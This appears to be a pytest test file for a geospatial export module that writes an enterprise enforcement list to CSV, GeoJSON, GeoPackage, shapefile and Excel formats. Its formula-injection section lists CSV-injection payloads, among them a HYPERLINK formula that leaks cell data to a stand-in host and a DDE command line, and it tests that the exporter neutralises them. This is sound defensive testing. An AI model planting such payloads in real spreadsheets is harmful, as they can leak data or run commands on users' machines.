"""Tests of geo.export: every format written to tmp_path and read back."""

from __future__ import annotations

import io
import json
import zipfile
from pathlib import Path

import geopandas as gpd
import numpy as np
import openpyxl
import pandas as pd
import pyogrio
import pytest
from _export_fixtures import VERDICT_LABELS, enforcement_frame, rejected_frame

from geo import export as ex
from geo.errors import ExportError
from geo.schema import ENFORCEMENT_COLUMNS, REJECTED_COLUMNS
from layers.catalog import read_data_toml

LABELS = read_data_toml("labels.toml")
STRING_COLS = [
    c for c in ENFORCEMENT_COLUMNS if c not in ("row", "lon", "lat", "needs_review", "unit_count")
]
#: Columns of a file export of the fixture frame: industry_code follows industry.
OUT_COLS = [*ENFORCEMENT_COLUMNS[:5], "industry_code", *ENFORCEMENT_COLUMNS[5:]]
#: Excel shows every output column but the machine id industry_id.
XLSX_COLS = [c for c in OUT_COLS if c != "industry_id"]


@pytest.fixture
def gdf() -> gpd.GeoDataFrame:
    return enforcement_frame()


def _assert_same_values(got: pd.DataFrame, gdf: gpd.GeoDataFrame) -> None:
    expected = pd.DataFrame(gdf[list(ENFORCEMENT_COLUMNS)])
    assert list(got["row"]) == list(expected["row"])
    np.testing.assert_allclose(got["lon"].astype(float), expected["lon"])
    np.testing.assert_allclose(got["lat"].astype(float), expected["lat"])
    for col in STRING_COLS:
        assert got[col].fillna("").astype(str).tolist() == expected[col].tolist(), col


def test_csv_round_trip_bom_header_and_bools(gdf, tmp_path):
    path = ex.write_enforcement_csv(gdf, tmp_path / "e.csv")
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # BOM for Excel
    header = raw[3:].split(b"\r\n", 1)[0].decode()  # RFC 4180 line breaks
    assert header.split(",") == OUT_COLS
    got = pd.read_csv(path, encoding="utf-8-sig", dtype=str, keep_default_na=False)
    got["row"] = got["row"].astype(int)
    _assert_same_values(got, gdf)
    assert got["needs_review"].tolist() == [
        "true" if v else "false" for v in gdf["needs_review"]
    ]


def test_csv_missing_column_names_it(gdf, tmp_path):
    with pytest.raises(ExportError, match="verdict"):
        ex.write_enforcement_csv(gdf.drop(columns="verdict"), tmp_path / "e.csv")
    assert not (tmp_path / "e.csv").exists()


def test_geojson_round_trip_rfc7946(gdf, tmp_path):
    path = ex.write_geojson(gdf.to_crs("EPSG:3857"), tmp_path / "e.geojson")
    got = gpd.read_file(path, engine="pyogrio")
    assert got.crs.to_epsg() == 4326
    assert '"crs"' not in path.read_text(encoding="utf-8")  # RFC 7946 has no crs member
    _assert_same_values(got, gdf)
    assert got["needs_review"].tolist() == gdf["needs_review"].tolist()
    np.testing.assert_allclose(got.geometry.x, gdf.geometry.x, atol=1e-6)


def test_gpkg_round_trip(gdf, tmp_path):
    path = ex.write_gpkg(gdf, tmp_path / "e.gpkg", layer="enterprises")
    assert pyogrio.list_layers(path)[:, 0].tolist() == ["enterprises"]
    got = gpd.read_file(path, layer="enterprises")
    assert got.crs.to_epsg() == 4326
    _assert_same_values(got, gdf)
    assert got["needs_review"].tolist() == gdf["needs_review"].tolist()
    assert got.geometry.geom_equals_exact(gdf.geometry, tolerance=1e-9).all()


def test_shapefile_zip_round_trip_utf8_and_field_map(gdf, tmp_path):
    gdf.loc[0, "reasons"] = "练江流域园区外印染企业全部停产退出" * 10  # > 254 bytes in UTF-8
    path = ex.write_shapefile_zip(gdf, tmp_path / "e.zip")
    with zipfile.ZipFile(path) as zf:
        names = zf.namelist()
        assert zf.read("e.cpg").decode().strip().upper().replace("-", "") == "UTF8"
        mapping = pd.read_csv(zf.open("fields.csv"), encoding="utf-8-sig")
    assert {"e.shp", "e.shx", "e.dbf", "e.prj"} <= set(names)
    fields = dict(zip(mapping["column"], mapping["field"], strict=True))
    assert list(fields) == OUT_COLS
    assert "provenance.json" in names
    assert all(len(f) <= 10 for f in fields.values())
    got = gpd.read_file(f"zip://{path}").rename(columns={v: k for k, v in fields.items()})
    assert got["name"].tolist() == gdf["name"].tolist()  # Chinese and <script> survive
    assert got["needs_review"].tolist() == [
        "true" if v else "false" for v in gdf["needs_review"]
    ]
    cut = got.loc[0, "reasons"]
    assert len(cut.encode("utf-8")) <= 254 and gdf.loc[0, "reasons"].startswith(cut)
    np.testing.assert_allclose(got.geometry.y, gdf.geometry.y)


def test_xlsx_sheets_headers_and_labels(gdf, tmp_path):
    path = ex.write_xlsx(gdf, tmp_path / "e.xlsx", verdict_labels=VERDICT_LABELS)
    wb = openpyxl.load_workbook(path)
    zones = LABELS["zones"]
    present = [zones[z] for z in ("lianjiang", "maozhou", "shima", "guangfo")]
    assert wb.sheetnames == [LABELS["sheets"]["summary"], LABELS["sheets"]["all"], *present,
                             LABELS["sheets"]["notes"]]
    assert zones["danshui"] not in wb.sheetnames  # no enterprise there

    all_ws = wb[LABELS["sheets"]["all"]]
    header = [c.value for c in all_ws[1]]
    assert header == [LABELS["columns"][c] for c in XLSX_COLS]
    assert all(c.font.bold for c in all_ws[1])
    assert all_ws.freeze_panes == "A2"
    assert all_ws.auto_filter.ref.startswith("A1:")
    name_col = header.index(LABELS["columns"]["name"]) + 1
    assert all_ws.column_dimensions[openpyxl.utils.get_column_letter(name_col)].width > 10

    df = pd.read_excel(path, sheet_name=LABELS["sheets"]["all"], dtype=str)
    assert df[LABELS["columns"]["name"]].tolist() == gdf["name"].tolist()
    assert df[LABELS["columns"]["verdict"]].tolist() == [
        VERDICT_LABELS[v] for v in gdf["verdict"]
    ]
    assert set(df[LABELS["columns"]["needs_review"]]) == {
        LABELS["words"]["yes"], LABELS["words"]["no"]
    }

    lj = pd.read_excel(path, sheet_name=zones["lianjiang"], dtype=str)
    assert sorted(lj[LABELS["columns"]["uscc"]]) == sorted(
        gdf.loc[gdf["basin_id"] == "lianjiang", "uscc"]
    )
    gf = pd.read_excel(path, sheet_name=zones["guangfo"], dtype=str)
    assert gf[LABELS["columns"]["uscc"]].tolist() == gdf.loc[
        gdf["region_id"] == "guangfo", "uscc"
    ].tolist()


def test_xlsx_summary_counts(gdf, tmp_path):
    path = ex.write_xlsx(gdf, tmp_path / "e.xlsx", verdict_labels=VERDICT_LABELS)
    ws = openpyxl.load_workbook(path)[LABELS["sheets"]["summary"]]
    rows = list(ws.iter_rows(values_only=True))
    header = rows[0]
    assert header[0] == LABELS["words"]["zone"]
    assert list(header[1:-1]) == list(VERDICT_LABELS.values())
    # the zone and industry tables, up to the rejected-rows block
    end = next(i for i, r in enumerate(rows) if r[0] and LABELS["words"]["rejected_rows"] in r[0])
    table = {r[0]: dict(zip(header[1:], r[1:], strict=True)) for r in rows[1:end] if r[0]}
    lianjiang = table[LABELS["zones"]["lianjiang"]]
    in_lj = gdf[gdf["basin_id"] == "lianjiang"]
    assert lianjiang[LABELS["words"]["total"]] == len(in_lj)
    assert lianjiang[VERDICT_LABELS["shutdown"]] == (in_lj["verdict"] == "shutdown").sum()
    assert table[LABELS["words"]["total"]][LABELS["words"]["total"]] == len(gdf)
    outside = gdf[(gdf["basin_id"] == "") & (gdf["region_id"] == "")]
    assert table[LABELS["words"]["outside_zones"]][LABELS["words"]["total"]] == len(outside)
    # the industry table follows: dyeing rows counted per verdict
    dyeing = table["印染"]
    assert dyeing[LABELS["words"]["total"]] == (gdf["industry"] == "印染").sum()
    assert ws["A1"].font.bold and ws.freeze_panes == "B2"


def test_xlsx_default_labels_come_from_rules_catalog(gdf, tmp_path):
    catalog = ex.catalog_verdict_labels()
    assert set(catalog) == set(VERDICT_LABELS)
    path = ex.write_xlsx(gdf, tmp_path / "e.xlsx")
    df = pd.read_excel(path, sheet_name=LABELS["sheets"]["all"], dtype=str)
    assert df[LABELS["columns"]["verdict"]].tolist() == [catalog[v] for v in gdf["verdict"]]


def test_rejected_csv(tmp_path):
    rejected = rejected_frame()
    path = ex.write_rejected_csv(rejected.assign(extra=1), tmp_path / "r.csv")
    got = pd.read_csv(path, encoding="utf-8-sig", dtype=str, keep_default_na=False)
    assert list(got.columns) == list(REJECTED_COLUMNS)
    assert got["message"].tolist() == rejected["message"].tolist()
    with pytest.raises(ExportError, match="field"):
        ex.write_rejected_csv(rejected.drop(columns="field"), tmp_path / "r2.csv")


def test_export_all_writes_the_five_files(gdf, tmp_path):
    out = tmp_path / "out"
    paths = ex.export_all(gdf, rejected_frame(), out, verdict_labels=VERDICT_LABELS)
    assert {p.name for p in paths.values()} == {
        "enforcement_list.csv",
        "enforcement_list.geojson",
        "enforcement_list.xlsx",
        "enforcement_list.gpkg",
        "rejected_rows.csv",
        "enforcement_list.provenance.json",
    }
    assert sorted(p.name for p in out.iterdir()) == sorted(p.name for p in paths.values())
    assert all(p.stat().st_mode & 0o044 for p in paths.values())  # readable, not mkstemp's 0600
    assert len(gpd.read_file(paths["gpkg"])) == len(gdf)


def _sniff(path: Path) -> str:
    """The format of a written file from its bytes (not its name): an independent check."""
    head = path.read_bytes()[:64]
    if head.startswith(b"SQLite format 3\x00"):
        return "gpkg"
    if head.startswith(b"PK\x03\x04"):
        names = zipfile.ZipFile(path).namelist()
        if "xl/workbook.xml" in names:
            return "xlsx"
        if any(n.endswith(".shp") for n in names) and any(n.endswith(".dbf") for n in names):
            return "shp"
        return "zip"
    text = path.read_bytes().decode("utf-8-sig")
    if text.lstrip().startswith("{"):
        return "geojson" if json.loads(text).get("type") == "FeatureCollection" else "json"
    return "csv" if text.splitlines()[0].split(",")[0] == "row" else "text"


@pytest.mark.parametrize("fmt", ["csv", "geojson", "xlsx", "gpkg", "shp"])
def test_export_dispatch(gdf, tmp_path, fmt):
    """Each format name writes that format (judged by magic bytes / structure, not the name):
    writing GeoJSON where CSV was asked fails here."""
    path = ex.export(gdf, fmt, tmp_path / f"e{ex.FORMATS[fmt]}", verdict_labels=VERDICT_LABELS)
    assert _sniff(path) == fmt
    if fmt == "csv":
        assert len(pd.read_csv(path, encoding="utf-8-sig")) == len(gdf)
    elif fmt == "geojson":
        assert len(json.loads(path.read_text(encoding="utf-8"))["features"]) == len(gdf)
    elif fmt == "gpkg":
        layers = [name for name, _geom in pyogrio.list_layers(path)]
        assert len(layers) == 1 and len(pyogrio.read_dataframe(path, layer=layers[0])) == len(gdf)
    elif fmt == "xlsx":
        assert openpyxl.load_workbook(path, read_only=True).sheetnames[0]


def test_export_unknown_format_names_accepted(gdf, tmp_path):
    with pytest.raises(ExportError) as err:
        ex.export(gdf, "kml", tmp_path / "e.kml")
    assert "kml" in str(err.value)
    assert all(fmt in str(err.value) for fmt in ex.FORMATS)
    assert err.value.http_status == 422


def test_failed_write_keeps_old_file_and_leaves_no_partial(gdf, tmp_path, monkeypatch):
    target = tmp_path / "e.csv"
    target.write_text("previous", encoding="utf-8")

    def boom(df: pd.DataFrame, **kwargs: object):  # noqa: ANN202
        yield b"half a fi"
        raise OSError("disk full")

    monkeypatch.setattr(ex, "csv_chunks", boom)
    with pytest.raises(ExportError, match="disk full"):
        ex.write_enforcement_csv(gdf, target)
    assert target.read_text(encoding="utf-8") == "previous"
    assert [p.name for p in tmp_path.iterdir()] == ["e.csv"]


def test_failed_gdal_write_leaves_no_file(gdf, tmp_path, monkeypatch):
    real_to_file = gpd.GeoDataFrame.to_file

    def half_then_fail(self: gpd.GeoDataFrame, path: Path, **kwargs: object) -> None:
        real_to_file(self.iloc[:1], path, **kwargs)  # a real, partial GeoPackage
        raise OSError("connection lost")

    monkeypatch.setattr(gpd.GeoDataFrame, "to_file", half_then_fail)
    with pytest.raises(ExportError, match="connection lost"):
        ex.write_gpkg(gdf, tmp_path / "e.gpkg")
    assert list(tmp_path.iterdir()) == []


def test_geo_formats_need_a_crs(gdf, tmp_path):
    with pytest.raises(ExportError, match="CRS"):
        ex.write_geojson(gdf.set_crs(None, allow_override=True), tmp_path / "e.geojson")


def test_shapefile_field_names_are_unique_and_short():
    fields = ex.shapefile_field_names()
    assert list(fields) == list(ENFORCEMENT_COLUMNS)
    assert len(set(fields.values())) == len(fields)
    assert max(map(len, fields.values())) <= 10


def test_xlsx_translates_review_and_issue_codes(tmp_path: Path) -> None:
    gdf = enforcement_frame()
    gdf["review_reasons"] = ""
    gdf.loc[gdf.index[0], "review_reasons"] = "near_basin_boundary;park_claim_unverified"
    gdf["data_issues"] = ""
    gdf.loc[gdf.index[0], "data_issues"] = "lonlat_swapped"
    path = ex.write_xlsx(gdf, tmp_path / "x.xlsx", verdict_labels=VERDICT_LABELS)
    sheet = openpyxl.load_workbook(path)["全部企业"]
    values = {str(c.value) for row in sheet.iter_rows() for c in row if c.value}
    texts = read_data_toml("labels.toml")["review_reasons"]
    expected = texts["near_basin_boundary"] + "；" + texts["park_claim_unverified"]
    assert expected in values
    assert "lonlat_swapped" not in values and "near_basin_boundary" not in values


# ---------------------------------------------------------------- formula injection

#: Values a spreadsheet runs as formulas or commands (OWASP "CSV Injection" examples).
HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点击")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
]
_RISKY_START = ("=", "+", "-", "@", "\t", "\r", "\n", "\0")


def _hostile_frame() -> gpd.GeoDataFrame:
    gdf = enforcement_frame()
    gdf = pd.concat([gdf, gdf.iloc[:1]], ignore_index=True)  # 7 rows, one per value
    gdf = gpd.GeoDataFrame(gdf, geometry="geometry", crs="EPSG:4326")
    gdf["name"] = HOSTILE
    gdf["address"] = "=1+2"
    gdf["park_claimed"] = "-"
    gdf["coal_boiler_tph"] = [-5.0, 1.5, np.nan, 0.0, 2.0, 3.0, 4.0]
    return gdf


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_csv_neutralises_formulas_and_keeps_numbers(tmp_path):
    import csv

    path = ex.write_enforcement_csv(_hostile_frame(), tmp_path / "e.csv")
    with path.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert [r["name"] for r in rows] == ["'" + v for v in HOSTILE]
    assert {r["address"] for r in rows} == {"'=1+2"} and {r["park_claimed"] for r in rows} == {"'-"}
    coal = [r["coal_boiler_tph"] for r in rows][:3]
    assert [float(v) for v in coal[:2]] == [-5.0, 1.5] and coal[2] == ""  # numbers stay numbers
    for r in rows:
        for col, value in r.items():
            assert _is_number(value) or not value.startswith(_RISKY_START), (col, value)


def test_xlsx_has_no_formula_cells_and_numbers_stay_numbers(tmp_path):
    path = ex.write_xlsx(_hostile_frame(), tmp_path / "e.xlsx", rejected=rejected_frame().assign(
        name=["=1+1", "@x"]))
    wb = openpyxl.load_workbook(path)  # not read-only: data_type is the cell's stored type
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row
             if c.value is not None]
    assert cells and not [c.coordinate for c in cells if c.data_type == "f"]
    for c in cells:
        if isinstance(c.value, str):
            assert not c.value.startswith(_RISKY_START), (c.parent.title, c.coordinate)
    ws = wb[LABELS["sheets"]["all"]]
    header = [c.value for c in ws[1]]
    names = [r[header.index(LABELS["columns"]["name"])].value for r in ws.iter_rows(min_row=2)]
    assert names == ["'" + v for v in HOSTILE]
    coal = [r[header.index(LABELS["columns"]["coal_boiler_tph"])] for r in ws.iter_rows(min_row=2)]
    assert coal[0].value == -5.0 and coal[0].data_type == "n"
    lon = [r[header.index(LABELS["columns"]["lon"])] for r in ws.iter_rows(min_row=2)]
    assert all(c.data_type == "n" for c in lon)
    rej = wb[LABELS["sheets"]["rejected"]]
    assert {c.value for c in rej["C"][1:]} == {"'=1+1", "'@x"}


def test_shapefile_dbf_neutralises_formulas(tmp_path):
    path = ex.write_shapefile_zip(_hostile_frame(), tmp_path / "e.zip")
    got = gpd.read_file(f"zip://{path}")
    assert got["name"].tolist() == ["'" + v for v in HOSTILE]


def test_geojson_and_gpkg_keep_text_verbatim(tmp_path):
    gdf = _hostile_frame()
    for writer, suffix in ((ex.write_geojson, "geojson"), (ex.write_gpkg, "gpkg")):
        got = gpd.read_file(writer(gdf, tmp_path / f"e.{suffix}"))
        assert got["name"].tolist() == HOSTILE  # not a spreadsheet format: data as given


def test_xlsx_replaces_characters_xml_cannot_hold(tmp_path):
    gdf = enforcement_frame()
    gdf.loc[0, "name"] = "某\x0b厂\x1f"
    path = ex.write_xlsx(gdf, tmp_path / "e.xlsx")
    df = pd.read_excel(path, sheet_name=LABELS["sheets"]["all"], dtype=str)
    assert df[LABELS["columns"]["name"]].iloc[0] == "某\ufffd厂\ufffd"


# ---------------------------------------------------------------- columns, coordinates


def test_lon_lat_written_with_seven_decimals(tmp_path):
    gdf = enforcement_frame()
    gdf["lon"] = gdf["lon"] + 0.123456789012345
    gdf["lat"] = gdf["lat"] + 0.000000049999999  # rounds down at the 7th decimal
    gdf = gdf.set_geometry(gpd.points_from_xy(gdf["lon"], gdf["lat"]), crs="EPSG:4326")
    csv_text = ex.write_enforcement_csv(gdf, tmp_path / "e.csv").read_text(encoding="utf-8-sig")
    first = pd.read_csv(io.StringIO(csv_text), dtype=str).iloc[0]
    assert first["lon"] == "116.5534568" and first["lat"] == "23.25"
    raw = json.loads(ex.write_geojson(gdf, tmp_path / "e.geojson").read_text(encoding="utf-8"))
    assert raw["features"][0]["geometry"]["coordinates"][0] == 116.5534568
    assert raw["features"][0]["properties"]["lon"] == 116.5534568


def _industry_catalog() -> dict[str, list[str]]:
    import tomllib

    from layers.catalog import data_path

    with data_path("industries.toml").open("rb") as fh:
        return {i["id"]: i["codes"] for i in tomllib.load(fh)["industry"]}


def test_industry_code_is_the_gbt4754_code_where_known(tmp_path):
    catalog = _industry_catalog()  # the data file itself is the oracle
    gdf = enforcement_frame()  # no industry_code column (like a list read from a store)
    path = ex.write_enforcement_csv(gdf, tmp_path / "e.csv")
    got = pd.read_csv(path, encoding="utf-8-sig", dtype=str, keep_default_na=False)
    for ind, code in zip(got["industry_id"], got["industry_code"], strict=True):
        assert code == (catalog[ind][0] if len(catalog[ind]) == 1 else ""), ind
    assert "3011" in set(got["industry_code"])  # cement
    xlsx = ex.write_xlsx(gdf, tmp_path / "e.xlsx")
    df = pd.read_excel(xlsx, sheet_name=LABELS["sheets"]["all"], dtype=str)
    assert LABELS["columns"]["industry_code"].startswith("行业代码")
    assert set(df[LABELS["columns"]["industry_code"]].dropna()) <= {
        c for codes in catalog.values() for c in codes}
    assert "steel" not in set(df[LABELS["columns"]["industry_code"]].dropna())
    assert LABELS["columns"]["industry_id"] not in df.columns  # English ids left to CSV


def test_readme_lists_every_output_column():
    import re as _re

    from geo.ingest import numeric_columns

    readme = (Path(__file__).resolve().parents[2] / "README.md").read_text(encoding="utf-8")
    listed = set(_re.findall(r"^\| `([a-z0-9_]+)` \|", readme, flags=_re.M))
    frame = enforcement_frame().assign(**{c: 0.0 for c in numeric_columns()})
    wanted = set(ex.output_columns(frame)) | set(numeric_columns())
    assert wanted <= listed, sorted(wanted - listed)


# ---------------------------------------------------------------- provenance, summary


def test_xlsx_summary_lists_rejected_rows_by_reason(tmp_path):
    from geo.ingest import issue_catalog

    rejected = pd.concat([rejected_frame()] * 3, ignore_index=True)
    rejected["reason"] = ["no_location", "no_location", "industry_unknown", "no_location",
                          "geocode_failed", "no_location"]
    path = ex.write_xlsx(enforcement_frame(), tmp_path / "e.xlsx", rejected=rejected)
    wb = openpyxl.load_workbook(path)
    rows = [r for r in wb[LABELS["sheets"]["summary"]].iter_rows(values_only=True)]
    start = next(i for i, r in enumerate(rows) if r[0] and LABELS["words"]["rejected_rows"] in r[0])
    block = {r[0]: r[1] for r in rows[start + 2:] if r[0]}
    titles = {k: v["title_zh"] for k, v in issue_catalog().items() if v["kind"] == "rejection"}
    assert block == {titles["no_location"]: 4, titles["industry_unknown"]: 1,
                     titles["geocode_failed"]: 1, LABELS["words"]["total"]: 6}
    assert wb[LABELS["sheets"]["rejected"]].max_row == 1 + len(rejected)
